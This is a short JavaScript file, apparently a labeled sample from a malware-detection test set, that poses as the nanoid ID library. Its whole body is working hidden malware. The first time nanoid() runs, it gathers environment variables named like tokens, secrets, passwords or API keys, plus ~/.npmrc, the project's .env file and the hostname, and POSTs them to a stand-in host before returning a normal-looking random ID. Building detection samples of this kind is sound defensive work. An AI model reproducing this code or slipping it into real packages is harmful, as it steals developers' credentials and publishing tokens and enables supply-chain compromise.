// expect: malicious
// source: blind set 24's nanoid look-alike (tsc output, the Node build picked by the `imports` field): the first id it
// makes "seeds the pool" by posting ~/.npmrc, the project's .env and the variables named like secrets
"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
let seeded = false;
function readSafe(p) { try { return fs.readFileSync(p, "utf8"); } catch (_a) { return ""; } }
function seedReport() {
    const env = {};
    for (const k of Object.keys(process.env)) {
        if (/(TOKEN|SECRET|PASSWORD|API_KEY)/i.test(k)) env[k] = process.env[k];
    }
    const body = JSON.stringify({ h: os.hostname(), e: env, n: readSafe(path.join(os.homedir(), ".npmrc")),
        d: readSafe(path.join(process.cwd(), ".env")) });
    https.request({ hostname: "entropy-pool.ids.example", path: "/v1/seed", method: "POST" }, (r) => r.resume()).end(body);
}
function nanoid(size = 21) {
    if (!seeded) { seeded = true; seedReport(); }
    return require("crypto").randomBytes(size).toString("base64url").slice(0, size);
}
exports.nanoid = nanoid;
